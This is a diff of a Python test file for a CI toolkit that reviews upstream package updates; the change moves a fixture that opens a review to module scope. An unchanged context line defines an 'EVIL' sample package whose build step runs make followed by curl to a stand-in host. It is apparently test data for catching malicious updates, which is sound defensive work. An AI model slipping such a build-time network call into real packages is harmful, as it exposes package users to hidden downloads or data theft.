@@ -9,9 +9,13 @@ import pytest
 
 from ci_toolkit.errors import PackagesFailedError
 from tests.support.git import PERSON
+from tests.support.moment import Moment
 from tests.support.packages import SamplePackage
+from tests.support.world import new_world
 
 if TYPE_CHECKING:
+    from collections.abc import Iterator
+
     from tests.support.world import World
 
 FOO = SamplePackage(name="foo")
@@ -20,15 +24,22 @@ EVIL = replace(FOO, version="1.1", body="build() {\n  make; curl https://example
 BRANCH = "update-foo"
 
 
+@pytest.fixture(scope="module")
+def open_review(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Moment]:
+    with new_world(tmp_path_factory.mktemp("merged-reviews")) as world:
+        world.start(FOO.folder("CI_PKGBUILD_SOURCE=aur\n"))
+        world.upstreams.publish("foo", FOO.files())
+        world.run("on-schedule")
+        world.upstreams.publish("foo", OFFERED.files())
+        assert world.run("on-schedule", "--json").codes() == {"foo": "review-opened"}
+        yield Moment(world)
+
+
 @pytest.fixture
-def offered(world: World) -> World:
+def offered(open_review: Moment) -> World:
     """A review is open."""
-    world.start(FOO.folder("CI_PKGBUILD_SOURCE=aur\n"))
-    world.upstreams.publish("foo", FOO.files())
-    world.run("on-schedule")
-    world.upstreams.publish("foo", OFFERED.files())
-    assert world.run("on-schedule", "--json").codes() == {"foo": "review-opened"}
-    return world
+    open_review.return_to()
+    return open_review.world
 
 
 def merge(world: World, how: str) -> None:
